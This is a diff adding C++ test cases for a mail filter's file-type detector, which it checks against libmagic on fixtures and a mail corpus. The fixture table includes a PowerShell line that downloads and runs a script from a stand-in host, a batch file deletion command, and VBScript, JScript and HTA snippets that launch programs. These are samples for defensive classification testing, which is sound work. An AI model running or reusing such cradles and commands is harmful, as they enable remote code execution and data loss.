@@ -2,8 +2,12 @@
 // and libmagic's detection of real files (ClamAV's test files, the corpus).
 #include "attach/filetype.hpp"
 
+#include "mime/analysis.hpp"
+
 #include <catch2/catch.hpp>
 
+#include <algorithm>
+#include <atomic>
 #include <filesystem>
 #include <fstream>
 #include <sstream>
@@ -183,4 +187,95 @@ TEST_CASE("what postern names without libmagic, libmagic names alike (every fixt
   }
   CHECK(compared > 100);
   CHECK(own <= 10);  // named otherwise than libmagic: a handful, all more precise
+}
+
+TEST_CASE(
+    "text is named without libmagic's text pass only when that pass could name nothing else") {
+  struct Row {
+    std::string what, data;
+    bool plain;     // named text without libmagic's text pass
+    FileClass cls;  // what postern and libmagic both name it
+  };
+  using enum FileClass;
+  const std::vector<Row> rows = {
+      {"prose", "Dear Bob,\r\nthe invoice is attached.\r\n", true, Text},
+      {"UTF-8 prose",
+       "Gr\xC3\xBC\xC3\x9F"
+       "e aus K\xC3\xB6ln \xE2\x80\x94 Rechnung anbei.\n",
+       true, Text},
+      {"CSV", "name,amount,date\nalice,10,2026-01-01\nbob,20,2026-01-02\n", true, Text},
+      {"VBScript (.vbs: banned by its name)",
+       "Set sh = CreateObject(\"WScript.Shell\")\r\nsh.Run \"calc.exe\"\r\n", true, Text},
+      {"PowerShell (.ps1: banned by its name)",
+       "$c = New-Object Net.WebClient\r\nIEX $c.DownloadString('http://x.test/a.ps1')\r\n", true,
+       Text},
+      {"batch", "@echo off\r\ndel /q C:\\temp\\*\r\n", false, Script},
+      {"shell script", "#!/bin/sh\necho hi\n", false, Script},
+      {"node script", "#!/usr/bin/env node\nconsole.log(1)\n", false, Script},
+      {"JScript",
+       "var s = new ActiveXObject('WScript.Shell');\n(function(){ s.Run('calc'); })();\n", false,
+       Script},
+      {"JavaScript module", "\"use strict\";\nconst fs = require('fs');\n", false, Script},
+      {"HTML", "<html><body><script>alert(1)</script></body></html>\n", false, Html},
+      {"HTML after a line of text", "Dear customer,\n\nsee <a href=\"http://x.test/\">here</a>\n",
+       false, Html},
+      {"HTA",
+       "<HTML><HEAD><HTA:APPLICATION ID=\"x\"><script language=\"VBScript\">"
+       "CreateObject(\"WScript.Shell\").Run \"calc\"</script></HEAD></HTML>\n",
+       false, Html},
+      {"SVG", "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>\n", false,
+       Html},
+      {"XML", "<?xml version=\"1.0\"?>\n<root><a>1</a></root>\n", false, Text},
+      {"a mail message", "Received: from x.test\nFrom: a@x.test\n\nbody\n", false, Unknown},
+      {"vCalendar", "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nEND:VCALENDAR\r\n", false, Calendar},
+      {"netpbm image", "P1\n2 2\n0 1\n1 0\n", false, Image},
+      {"UTF-16 text", std::string("\xFF\xFEh\0i\0\n\0", 8), false, Text},
+      {"text with NULs", std::string("hello\0world\n", 12), false, Unknown},
+      {"control characters", "ok\x1b[31mred\n", false, Text},
+      {"empty", "", false, Unknown},
+  };
+  for (const auto& r : rows) {
+    INFO(r.what);
+    CHECK(plain_text(r.data) == r.plain);
+    CHECK(detect_with_libmagic(r.data).cls == r.cls);
+    CHECK(detect(r.data).cls == r.cls);
+  }
+}
+
+TEST_CASE("text and HTML of real mail keep libmagic's class (a sample of the corpus)") {
+  // Every 6th message of four folders: the decoded files, HTML sources and texts of
+  // each. Scripts, HTML and programs are never named anything else; for the rest,
+  // the class libmagic gives or, where libmagic knows nothing, text.
+  std::vector<std::filesystem::path> paths;
+  for (std::string dir : {"ham/spamassassin-hard", "phish/nazario", "spam/spamassassin", "mime"}) {
+    const std::filesystem::path root = POSTERN_CORPUS_DIR "/" + dir;
+    if (!std::filesystem::exists(root)) continue;
+    for (const auto& e : std::filesystem::recursive_directory_iterator(root))
+      if (e.is_regular_file()) paths.push_back(e.path());
+  }
+  std::sort(paths.begin(), paths.end());
+  size_t compared = 0, plain = 0;
+  for (size_t i = 0; i < paths.size(); i += 6) {
+    const auto a = postern::mime::analyze(slurp(paths[i].string()));
+    for (const auto& leaf : a.leaves)
+      for (std::string_view data : {std::string_view(leaf.data), std::string_view(leaf.html),
+                                    std::string_view(leaf.text)}) {
+        if (data.empty()) continue;
+        const Detected ours = detect(data), magic = detect_with_libmagic(data);
+        INFO(paths[i].string() << " part " << leaf.part->path << ": " << ours.mime
+                               << " vs libmagic " << magic.mime);
+        const bool risky = magic.cls == FileClass::Script || magic.cls == FileClass::Html ||
+                           magic.cls == FileClass::Executable;
+        if (risky) CHECK(ours.cls == magic.cls);
+        CHECK((ours.cls == magic.cls || magic.cls == FileClass::Unknown));
+        plain += plain_text(data);
+        ++compared;
+      }
+  }
+  if (paths.empty())
+    WARN("corpus not found at " POSTERN_CORPUS_DIR);
+  else {
+    CHECK(compared > 500);
+    CHECK(plain > 250);  // the path is taken: most mail text is plain
+  }
 }
